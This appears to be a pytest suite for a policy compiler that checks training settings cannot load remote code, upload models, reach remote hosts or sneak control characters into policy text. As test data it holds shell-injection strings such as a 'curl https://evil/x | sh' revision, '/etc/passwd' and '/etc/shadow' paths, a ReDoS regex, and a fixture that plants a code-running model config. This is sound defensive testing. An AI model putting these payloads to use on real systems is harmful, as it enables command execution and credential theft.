"""A policy is data: its training settings cannot load code, upload, name remotes or exceed tenet's limits.

Each attack is tried where a policy author can reach: `compile_policy` and `tenet check`
(exit 1, a diagnostic at the policy line that says why), and the runtime guard that checks
an artifact's settings and the built TRL / peft configs again before any trainer exists
(runtime/train/guard.py). Control characters and bidirectional controls in policy text
(E181) and Hub revisions that are not git refs (E161) are here too.
"""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from tenet.compiler.passes.check_text import is_forbidden
from tenet.compiler.passes.check_trainer_fields import (allowed_field_methods, config_fields, config_names,
                                                 section_configs)
from tenet.compiler.passes.check_training import revision_problem
from tenet.compiler.pipeline import compile_policy
from tenet.compiler.settings import TRAINER_CONFIGS
from tenet.compiler.trainer_allow import ALLOWED, REFUSED, SETTING_FIELDS, allowed_fields_markdown, refusal
from helpers import CLEAN, PROMPTS, REPO, run_cli, write_policy

pytest_plugins = ["tiny_models"]

HEAD = CLEAN + PROMPTS + "\ntraining:\n"


def _compile(tmp_path: Path, settings: str):
    return compile_policy(write_policy(tmp_path, "p.policy", HEAD + settings))


def _diagnostic(result, code: str):
    return next(d for d in result.diagnostics if d.code == code)


# --- the attacks, at the policy line --------------------------------------------------------------

ATTACKS = [
    # (settings, code, words the message must hold)
    ("  method = kto\n  trainer.trust_remote_code = true\n", "E169", "loads code"),
    ("  method = dpo\n  trainer.trust_remote_code = true\n  trainer.precompute_ref_log_probs = false\n",
     "E169", "loads code"),
    ("  method = grpo\n  beta = 0.1\n  trainer.trust_remote_code = true\n", "E169", "loads code"),
    ('  trainer.model_init_kwargs = "{\\"trust_remote_code\\": true}"\n', "E169", "loads code"),
    ('  trainer.accelerator_config = "{\\"dispatch_batches\\": true}"\n', "E169", "distributed"),
    ('  trainer.fsdp_config = "{\\"xla\\": true}"\n', "E169", "distributed"),
    ('  trainer.deepspeed = "ds.json"\n', "E169", "distributed"),
    ('  trainer.lr_scheduler_kwargs = "{\\"min_lr\\": 0}"\n', "E169", "dictionary"),
    ('  method = grpo\n  trainer.generation_kwargs = "{\\"max_new_tokens\\": 100000000}"\n', "E169", "dictionary"),
    ('  trainer.gradient_checkpointing_kwargs = "{\\"use_reentrant\\": false}"\n', "E169", "dictionary"),
    ('  trainer.optim_args = "lr=1"\n', "E169", "dictionary"),
    ("  trainer.push_to_hub = true\n", "E169", "uploads"),
    ('  trainer.hub_model_id = "someone/else"\n', "E169", "uploads"),
    ('  trainer.hub_token = "hf_secret"\n', "E169", "uploads"),
    ("  trainer.hub_strategy = all_checkpoints\n", "E169", "uploads"),
    ('  trainer.accelerator_config = "/etc/passwd"\n', "E169", "distributed"),
    ('  trainer.logging_dir = "/etc"\n', "E169", "path, URL or remote"),
    ('  method = grpo\n  trainer.vllm_server_host = "10.0.0.1"\n', "E169", "remote"),
    ('  method = rlhf\n  trainer.chat_template_path = "/etc/shadow"\n', "E169", "path, URL or remote"),
    ('  trainer.output_dir = "/tmp/elsewhere"\n', "E169", "set by tenet itself"),
    ('  trainer.resume_from_checkpoint = "/tmp/ckpt"\n', "E169", "set by tenet itself"),
    ('  trainer.report_to = "wandb"\n', "E169", "set by tenet itself"),
    ("  trainer.num_train_epochs = 1e12\n", "E169", "`epochs` setting"),
    ("  trainer.max_steps = 1000000000000\n", "E169", "`max_steps` setting"),
    ("  trainer.data_seed = 1e30\n", "E169", "`seed` setting"),
    ("  trainer.save_steps = 1e-9\n", "E169", "`save_steps` setting"),
    ("  trainer.save_total_limit = none\n", "E169", "set by tenet itself"),
    ("  trainer.dataloader_num_workers = 100000\n", "E169", "distributed"),
    ("  trainer.dataset_num_proc = 100000\n", "E169", "distributed"),
    ('  trainer.ddp_backend = "gloo"\n', "E169", "distributed"),
    ('  trainer.fsdp = "full_shard"\n', "E169", "distributed"),
    ('  trainer.torch_compile_backend = "inductor"\n', "E169", "loads code"),
    ("  trainer.use_liger_kernel = true\n", "E169", "loads code"),
    ("  method = grpo\n  trainer.use_vllm = true\n", "E169", "loads code"),
    ('  trainer.run_name = "x"\n', "E169", "set by tenet itself"),
    ("  trainer.beta = 1e9\n", "E169", "`beta` setting"),
    ("  trainer.torch_compile = true\n", "E169", "not on tenet's allow-list"),
    ("  trainer.warmup_steps = 1e12\n", "E167", "outside tenet's range"),
    ("  trainer.logging_steps = 1e-9\n", "E167", "outside tenet's range"),
    ("  method = grpo\n  trainer.num_generations = 1000000\n", "E167", "outside tenet's range"),
    ("  method = grpo\n  trainer.max_completion_length = none\n", "E167", "expected a whole number"),
    ('  method = grpo\n  trainer.reward_weights = "1, 1e9"\n', "E167", "outside tenet's range"),
    ('  trainer.optim = "adamw_bnb_8bit"\n', "E167", "not one of tenet's values"),
    ('  lora = true\n  lora.target_modules = "(.|.)*z"\n', "E167", "not a plain module name"),
    ('  lora = true\n  lora.target_modules = "q_proj, .*"\n', "E167", "not a plain module name"),
    ('  lora = true\n  lora.target_modules = "q_proj\\n"\n', "E167", "not a plain module name"),
    ('  lora = true\n  lora.layers_pattern = "(.|.)*z"\n', "E169", "regular expression"),
    ('  lora = true\n  lora.exclude_modules = "(a+)+$"\n', "E169", "regular expression"),
    ('  lora = true\n  lora.modules_to_save = "lm_head"\n', "E169", "not on tenet's allow-list"),
    ('  lora = true\n  lora.megatron_core = "os"\n', "E169", "loads code"),
    ('  lora = true\n  lora.base_model_name_or_path = "/etc"\n', "E169", "path, URL or remote"),
    ('  lora = true\n  lora.revision = "main"\n', "E169", "path, URL or remote"),
    ("  lora = true\n  lora.r = 100000\n", "E169", "`lora_r` setting"),
    ('  lora = true\n  lora.task_type = "SEQ_CLS"\n', "E169", "set by tenet itself"),
    ("  method = dpo\n  trainer.loss_type = hinge\n", "E169", "only for kto, grpo, rlhf"),
]


@pytest.mark.parametrize("settings, code, words", ATTACKS, ids=[a[0].strip().splitlines()[-1].strip() for a in ATTACKS])
def test_attack_is_refused_at_the_policy_line(tmp_path: Path, settings: str, code: str, words: str) -> None:
    result = _compile(tmp_path, settings)
    assert not result.ok
    found = next(d for d in result.diagnostics if d.code == code and words in d.message + (d.hint or ""))
    line = result.sources[found.span.file].splitlines()[found.span.line - 1]
    key = line.split("=")[0].strip()
    assert f"`{key}`" in found.message and line.startswith(" " * (found.span.col - 1) + key)  # its own line
    assert found.hint


def test_each_refused_trainer_setting_of_two_is_reported(tmp_path: Path) -> None:
    result = _compile(tmp_path, "  method = dpo\n  trainer.trust_remote_code = true\n"
                                "  trainer.precompute_ref_log_probs = false\n")
    assert [d.code for d in result.diagnostics] == ["E169", "E169"]
    assert "set by tenet itself" in result.diagnostics[1].message


@pytest.mark.parametrize("settings", ["  trainer.push_to_hub = true\n", '  revision = "main && curl x | sh #"\n',
                                      '  trainer.model_init_kwargs = "{\\"trust_remote_code\\": true}"\n'])
def test_tenet_check_exits_1_and_names_the_reason(tmp_path: Path, settings: str) -> None:
    code, _, err = run_cli(["check", str(write_policy(tmp_path, "p.policy", HEAD + settings))])
    assert code == 1
    assert "error[E169]" in err or "error[E161]" in err


def test_allowed_fields_compile_and_are_typed(tmp_path: Path) -> None:
    result = _compile(tmp_path, '''  method = grpo
  lora = true
  trainer.lr_scheduler_type = cosine
  trainer.warmup_steps = 0.1
  trainer.weight_decay = 0.01
  trainer.adam_beta2 = 0.95
  trainer.max_grad_norm = 1
  trainer.num_generations = 2
  trainer.temperature = 0.7
  trainer.loss_type = dr_grpo
  lora.target_modules = "q_proj"
  lora.lora_dropout = 0.1
''')
    assert result.ok, result.diagnostics
    overrides = dict(result.artifact.ir.training.overrides)
    assert overrides["lora.target_modules"] == ("q_proj",)  # one name is a list, never a regular expression
    assert overrides["trainer.loss_type"] == "dr_grpo" and overrides["trainer.weight_decay"] == 0.01


# --- the allow-list itself ------------------------------------------------------------------------


def test_every_allowed_field_is_a_field_of_some_config() -> None:
    for section, fields in ALLOWED.items():
        known = {f for name in section_configs(section) for f in config_fields()[name]}
        assert set(fields) <= known, set(fields) - known


def test_no_allowed_field_takes_free_text_a_dictionary_or_an_object() -> None:
    for section, fields in ALLOWED.items():
        for field, allowed in fields.items():
            for name in section_configs(section):
                spec = config_fields()[name].get(field)
                if spec is None:
                    continue
                assert spec["types"], (field, "nested object")
                assert not spec.get("dict"), field
                if "str" in spec["types"] or "list[str]" in spec["types"]:
                    assert allowed.choices or allowed.module_names, f"{field} would take free text"
                if set(spec["types"]) & {"int", "float", "list[float]"}:
                    assert allowed.low is not None and allowed.high is not None, f"{field} has no range"


def test_allowed_names_are_values_the_installed_field_takes() -> None:
    for section, fields in ALLOWED.items():
        for field, allowed in fields.items():
            for method in TRAINER_CONFIGS:
                if allowed.methods and method not in allowed.methods:
                    continue
                for name in config_names(section, method):
                    installed = config_fields()[name].get(field, {}).get("choices")
                    if installed:
                        assert set(allowed.choices_for(method)) <= set(installed), (field, method)


def test_every_field_transformers_parses_into_a_dictionary_is_refused_for_a_reason() -> None:
    for section in ALLOWED:
        for name in section_configs(section):
            for field, spec in config_fields()[name].items():
                reason = refusal(section, field, parsed_as_dict=bool(spec.get("dict")))
                if spec.get("dict") or not spec["types"]:
                    assert reason is not None and reason.reason != "unlisted", (field, reason)


def test_refusal_tables_do_not_overlap_the_allow_list() -> None:
    for section in ALLOWED:
        assert not set(ALLOWED[section]) & set(REFUSED[section])
        assert not set(ALLOWED[section]) & set(SETTING_FIELDS[section])


def test_the_docs_table_is_the_allow_list() -> None:
    text = (REPO / "docs" / "language.md").read_text(encoding="utf-8")
    start = text.index("<!-- allowed-fields:start")
    block = text[text.index("\n", start) + 1:text.index("<!-- allowed-fields:end -->")].strip()
    assert block == allowed_fields_markdown(allowed_field_methods()), (
        "docs/language.md's table of allowed fields is stale: paste tenet.compiler.trainer_allow.allowed_fields_markdown")


# --- revisions ------------------------------------------------------------------------------------


@pytest.mark.parametrize("ref", ["main", "v1.2.0", "refs/pr/3", "release/2026-11", "a" * 40, "0123abc"])
def test_git_refs_are_revisions(ref: str) -> None:
    assert revision_problem(ref) is None


@pytest.mark.parametrize("ref", ["main && curl https://x | sh #", "", "-rf", "../etc", "a/../b", "a//b", "a/",
                                 "x.lock", "a b", "a;b", "$(id)", "`id`", "a\nb", "a" * 129, "é"])
def test_other_strings_are_not_revisions(ref: str) -> None:
    assert revision_problem(ref) is not None


def test_revision_setting_that_is_not_a_ref_is_e161_at_its_line(tmp_path: Path) -> None:
    result = _compile(tmp_path, '  base_model = "acme/m"\n  revision = "main && curl https://evil/x | sh #"\n')
    found = _diagnostic(result, "E161")
    assert found.span.line == (HEAD.count("\n") + 2) and "not a branch, tag or commit" in found.message


# --- control characters ---------------------------------------------------------------------------

RAW = ["\x00", "\x07", "\x1b", "\x0b", "\x0c", "\r", "\x7f", "\x85", "\x9b", "\u202a", "\u202e", "\u2066", "\u2069"]
PLACES = {
    "rule text": 'rule r (high):\n  "desc {c}ription"\n  forbid response contains "x"\n',
    "because": 'rule r (high):\n  forbid response contains "x"\n  because "why{c}"\n',
    "string predicate": 'rule r (high):\n  forbid response contains "x{c}y"\n',
    "regex": "rule r (high):\n  forbid response matches /x{c}y/\n",
    "example": 'rule r (high):\n  forbid response contains "x"\n  example:\n    prompt "p{c}"\n    good "g"\n',
    "words": 'let w = words("a{c}b")\n',
    "prompt": 'prompts:\n  prompt "hello{c}"\n',
    "template slot": 'prompts:\n  template "hi {{x}}"\n    slot x = "a{c}"\n',
    "setting": 'training:\n  base_model = "m{c}x"\n',
    "trainer setting": 'training:\n  trainer.run_name = "run{c}"\n',
}


@pytest.mark.parametrize("place", sorted(PLACES))
@pytest.mark.parametrize("char", RAW, ids=[f"U+{ord(c):04X}" for c in RAW])
def test_control_character_in_any_literal_is_e181_at_its_column(tmp_path: Path, place: str, char: str) -> None:
    body = 'dsl 1\npolicy p version "1"\n' + PLACES[place].format(c=char)
    result = compile_policy(write_policy(tmp_path, "p.policy", body))
    found = _diagnostic(result, "E181")
    line = body.split("\n")[found.span.line - 1]
    assert line[found.span.col - 1] == char, (line, found.span)
    assert f"U+{ord(char):04X}" in found.message
    assert "\ufffd" in found.render(result.sources) and char not in found.render(result.sources)


@pytest.mark.parametrize("escape", ["\\u001b", "\\u0000", "\\u202e", "\\u0085", "\\u007F"])
def test_control_character_written_as_an_escape_is_e181_on_the_string(tmp_path: Path, escape: str) -> None:
    body = 'dsl 1\npolicy p version "1"\nrule r (high):\n  forbid response contains "x"\n' \
           f'  because "a{escape}b"\n'
    found = _diagnostic(compile_policy(write_policy(tmp_path, "p.policy", body)), "E181")
    assert found.span.line == 5 and "as an escape" in found.message


def test_tab_newline_and_return_escapes_and_raw_tabs_are_fine(tmp_path: Path) -> None:
    body = ('dsl 1\npolicy p version "1"\nrule bullets (high):\n  "Lists\tuse bullets."\n'
            "  when prompt matches /\\blist\\b/i\n  require response matches /^- /m\n"
            '  example:\n    prompt "list two"\n    good "- one\\n- two\\r\\n\\tdone"\n    bad "one, two"\n'
            "# a comment with a form feed \x0c and NEL \x85 is not a literal\n")
    result = compile_policy(write_policy(tmp_path, "p.policy", body))
    assert "E181" not in {d.code for d in result.diagnostics}, result.diagnostics
    assert result.ok


def test_bidirectional_control_in_a_comment_is_e181(tmp_path: Path) -> None:
    body = 'dsl 1\npolicy p version "1"\n# looks harmless \u2067 until it is not\nrule r (high):\n' \
           '  forbid response contains "x"\n'
    found = _diagnostic(compile_policy(write_policy(tmp_path, "p.policy", body)), "E181")
    assert (found.span.line, found.span.col) == (3, 18) and "comment" in found.message


def test_control_character_in_an_imported_module_is_reported_there(tmp_path: Path) -> None:
    write_policy(tmp_path, "base.policy", 'dsl 1\npolicy base version "1"\nlet w = words("a\x1bb")\n')
    main = write_policy(tmp_path, "main.policy", 'dsl 1\npolicy main version "1"\nimport "base.policy"\n')
    found = _diagnostic(compile_policy(main), "E181")
    assert found.span.file.endswith("base.policy")


def test_forbidden_set_is_exactly_the_documented_one() -> None:
    expected = {chr(c) for c in range(0x20) if chr(c) not in "\t\n"} | {chr(c) for c in range(0x7F, 0xA0)}
    expected |= {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
    assert {chr(c) for c in range(0x3000) if is_forbidden(chr(c))} == expected


# --- the runtime guard ----------------------------------------------------------------------------


def _job(tmp_path: Path, method: str = "dpo", model: str = "unused", **hp):
    from tenet.runtime.train.common import TrainJob

    base = {"learning_rate": 1e-2, "epochs": 1, "max_steps": 2, "batch_size": 2, "grad_accum": 1, "beta": 0.1,
            "lora": False, "lora_r": 4, "lora_alpha": 8, "max_length": 64, "precision": "fp32", "device": "cpu",
            "seed": 7}
    return TrainJob(method=method, model_path=str(model), pairs_path=None, unpaired_path=None,
                    output_dir=str(tmp_path / "out"), hyperparameters={**base, **hp})


RUNTIME_ATTACKS = [
    {"trainer.push_to_hub": True}, {"trainer.hub_token": "hf_x"}, {"trainer.hub_model_id": "someone/else"},
    {"trainer.trust_remote_code": True}, {"trainer.model_init_kwargs": '{"trust_remote_code": true}'},
    {"trainer.accelerator_config": "/etc/passwd"}, {"trainer.num_train_epochs": 1e12},
    {"trainer.dataloader_num_workers": 100000}, {"trainer.save_steps": 1e-9},
    {"trainer.warmup_steps": 1e12}, {"lora.target_modules": "(.|.)*z"}, {"lora.layers_pattern": "x"},
    {"trainer.output_dir": "/tmp/else"}, {"trainer.loss_type": "hinge"},
]


@pytest.mark.parametrize("override", RUNTIME_ATTACKS, ids=lambda o: next(iter(o)))
def test_an_artifact_override_is_refused_before_anything_loads(tmp_path: Path, override: dict) -> None:
    """A hand-written artifact skips the compiler; the runtime refuses before the model path is read."""
    pytest.importorskip("trl")
    from tenet.runtime.train.jobs import train_job
    from tenet.runtime.train import dpo
    from tenet.runtime.train.guard import OverrideError

    job = _job(tmp_path, lora=True, **override)
    with pytest.raises(OverrideError) as caught:
        dpo.train(job)  # model_path "unused" does not exist: loading it would be another error
    assert next(iter(override)) in str(caught.value)
    with pytest.raises(OverrideError):
        train_job(replace(job, hyperparameters=job.hyperparameters.replace(sft_epochs=1.0)))
    assert not (tmp_path / "out").exists()


def test_a_built_config_that_uploads_is_refused(tmp_path: Path) -> None:
    pytest.importorskip("trl")
    from trl import DPOConfig, KTOConfig

    from tenet.runtime.train.common import base_arguments
    from tenet.runtime.train.guard import OverrideError, build_config, check_safe

    arguments = base_arguments(_job(tmp_path))
    for unsafe in ({"push_to_hub": True}, {"hub_token": "hf_x"}, {"trust_remote_code": True},
                   {"model_init_kwargs": {"trust_remote_code": True}}, {"report_to": ["wandb"]},
                   {"dataloader_num_workers": 4}):
        config = KTOConfig(**{**arguments, **unsafe})
        with pytest.raises(OverrideError, match=next(iter(unsafe))):
            check_safe(config)
    with pytest.raises(OverrideError, match="push_to_hub"):  # not tenet's field, not an allowed override
        build_config(DPOConfig, {**arguments, "push_to_hub": True}, {})
    with pytest.raises(OverrideError, match="neither tenet"):
        build_config(DPOConfig, arguments, {"hub_model_id": "x"})
    assert build_config(DPOConfig, arguments, {"weight_decay": 0.1}).weight_decay == 0.1


def test_a_lora_config_with_a_pattern_is_refused() -> None:
    pytest.importorskip("peft")
    from peft import LoraConfig

    from tenet.runtime.train.guard import OverrideError, check_safe

    with pytest.raises(OverrideError, match="target_modules"):
        check_safe(LoraConfig(r=4, target_modules="(.|.)*z"))
    with pytest.raises(OverrideError, match="modules_to_save"):
        check_safe(LoraConfig(r=4, target_modules=["q_proj"], modules_to_save=["lm_head"]))
    check_safe(LoraConfig(r=4, target_modules=["q_proj"]))


def test_tenet_sets_only_fields_the_guard_knows(tmp_path: Path) -> None:
    pytest.importorskip("trl")
    from tenet.runtime.train.common import base_arguments
    from tenet.runtime.train.guard import TENET_FIELDS

    assert set(base_arguments(_job(tmp_path))) <= TENET_FIELDS


def test_every_method_builds_a_safe_config(tmp_path: Path) -> None:
    pytest.importorskip("trl")
    from trl import DPOConfig, KTOConfig, RewardConfig

    from tenet.runtime.train.common import lora_config, trainer_config
    from tenet.runtime.train.grpo import grpo_config

    job = _job(tmp_path, lora=True, **{"trainer.weight_decay": 0.05, "lora.target_modules": ("q_proj",)})
    for config_class in (DPOConfig, KTOConfig, RewardConfig):
        args = trainer_config(config_class, job, beta=0.1) if config_class is not RewardConfig \
            else trainer_config(config_class, job)
        assert args.weight_decay == 0.05 and args.trust_remote_code is False and args.push_to_hub is False
    grpo = grpo_config(replace(job, method="grpo"))
    assert grpo.trust_remote_code is False and grpo.model_init_kwargs is None and grpo.beta == 0.1
    assert lora_config(job).target_modules == {"q_proj"}


def test_a_field_the_installed_trl_lacks_names_field_and_versions(tmp_path: Path, monkeypatch) -> None:
    pytest.importorskip("trl")
    from importlib.metadata import version

    from tenet.runtime.train import guard

    real = guard.installed_fields("DPOConfig")
    monkeypatch.setattr(guard, "installed_fields",
                        lambda name: {k: v for k, v in real.items() if k != "weight_decay"})
    with pytest.raises(guard.InstalledMismatch) as caught:
        guard.check_overrides("dpo", [("trainer.weight_decay", 0.1)])
    message = str(caught.value)
    assert "`trainer.weight_decay`" in message and f"TRL {version('trl')}" in message
    assert "checked against TRL" in message
    assert caught.value.exit_code == 2


def test_a_value_of_a_type_the_installed_trl_does_not_take_is_named(monkeypatch) -> None:
    pytest.importorskip("trl")
    from tenet.runtime.train import guard

    real = guard.installed_fields("DPOConfig")
    changed = {**real, "warmup_steps": {"types": ["int"]}}
    monkeypatch.setattr(guard, "installed_fields", lambda name: changed)
    with pytest.raises(guard.InstalledMismatch, match="DPOConfig.warmup_steps .* takes int, not 0.1"):
        guard.check_overrides("dpo", [("trainer.warmup_steps", 0.1)])
    assert guard.check_overrides("dpo", [("trainer.warmup_steps", 5)])["trainer"] == {"warmup_steps": 5}


def test_training_stays_offline_unless_downloads_are_allowed(monkeypatch) -> None:
    import huggingface_hub.constants as constants

    from tenet.runtime.train.guard import stay_offline

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_DATASETS_OFFLINE", "TENET_ALLOW_DOWNLOADS"):
        monkeypatch.delenv(name, raising=False)
    stay_offline()
    assert constants.HF_HUB_OFFLINE is True
    assert os.environ["HF_HUB_OFFLINE"] == "1" and os.environ["HF_DATASETS_OFFLINE"] == "1"
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.delenv("HF_HUB_OFFLINE")
    monkeypatch.setenv("TENET_ALLOW_DOWNLOADS", "1")
    stay_offline()
    assert constants.HF_HUB_OFFLINE is False and "HF_HUB_OFFLINE" not in os.environ


def test_every_model_load_in_training_and_generation_refuses_remote_code() -> None:
    """Each `from_pretrained` in the training, generation, labeling and model code passes `trust_remote_code=False`."""
    import ast as pyast

    folders = [REPO / "runtime" / "train", REPO / "runtime" / "synthesize", REPO / "runtime" / "label"]
    files = [p for folder in folders for p in folder.rglob("*.py")]
    files += [REPO / "runtime" / name for name in ("models.py", "champion.py", "lineage.py")]
    missing = []
    for path in files:
        for node in pyast.walk(pyast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, pyast.Call) and getattr(node.func, "attr", "") == "from_pretrained":
                ok = any(k.arg == "trust_remote_code" and isinstance(k.value, pyast.Constant)
                         and k.value.value is False for k in node.keywords)
                if not ok:
                    missing.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert missing == []


# --- remote code in a model folder, through the train path -----------------------------------------


@pytest.fixture
def evil_llama(tmp_path: Path, tiny_llama: Path) -> tuple[Path, Path]:
    """A copy of the tiny Llama whose config maps every Auto class to a module that writes a marker."""
    model = tmp_path / "evil-llama"
    shutil.copytree(tiny_llama, model)
    marker = tmp_path / "PWNED"
    (model / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n"
                                   "from transformers import LlamaConfig as EvilConfig\n"
                                   "from transformers import LlamaForCausalLM as EvilModel\n", encoding="utf-8")
    config = json.loads((model / "config.json").read_text(encoding="utf-8"))
    config["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel",
                          "AutoModel": "evil.EvilModel"}
    (model / "config.json").write_text(json.dumps(config), encoding="utf-8")
    return model, marker


@pytest.fixture(scope="module")
def unpaired(tmp_path_factory) -> Path:
    import datasets

    folder = tmp_path_factory.mktemp("unpaired")
    rows = []
    for i in range(8):
        prompt = [{"role": "user", "content": ["hello", "please help", "thanks", "the weather"][i % 4]}]
        rows.append({"prompt": prompt, "completion": [{"role": "assistant", "content": "sure , I help ."}],
                     "label": True})
        rows.append({"prompt": prompt, "completion": [{"role": "assistant", "content": "I hate you ."}],
                     "label": False})
    datasets.Dataset.from_list(rows).to_parquet(str(folder / "unpaired.parquet"))
    pairs = [{"prompt": r["prompt"], "chosen": r["completion"], "rejected": rows[i + 1]["completion"]}
             for i, r in enumerate(rows) if r["label"]]
    datasets.Dataset.from_list(pairs).to_parquet(str(folder / "pairs.parquet"))
    return folder


def test_trust_remote_code_for_the_reference_model_is_refused_and_nothing_runs(
        tmp_path: Path, evil_llama: tuple[Path, Path], unpaired: Path) -> None:
    """KTOTrainer would build its reference model with the config's `trust_remote_code` and run evil.py."""
    pytest.importorskip("trl")
    from tenet.runtime.train import kto
    from tenet.runtime.train.guard import OverrideError

    model, marker = evil_llama
    for override in ({"trainer.trust_remote_code": True},
                     {"trainer.model_init_kwargs": '{"trust_remote_code": true}'}):
        job = replace(_job(tmp_path, "kto", model, **override), unpaired_path=str(unpaired / "unpaired.parquet"))
        with pytest.raises(OverrideError):
            kto.train(job)
        assert not marker.exists()


@pytest.mark.parametrize("method, hp", [("kto", {}), ("dpo", {"precompute_ref_log_probs": False})])
def test_a_model_folder_with_remote_code_trains_without_running_it(
        tmp_path: Path, evil_llama: tuple[Path, Path], unpaired: Path, method: str, hp: dict) -> None:
    """The methods that need a reference model get one tenet loaded, without the folder's code."""
    pytest.importorskip("trl")
    import importlib

    model, marker = evil_llama
    job = replace(_job(tmp_path, method, model, **hp), unpaired_path=str(unpaired / "unpaired.parquet"),
                  pairs_path=str(unpaired / "pairs.parquet"))
    result = importlib.import_module(f"tenet.runtime.train.{method}").train(job)
    assert result.global_step == 2
    assert not marker.exists()
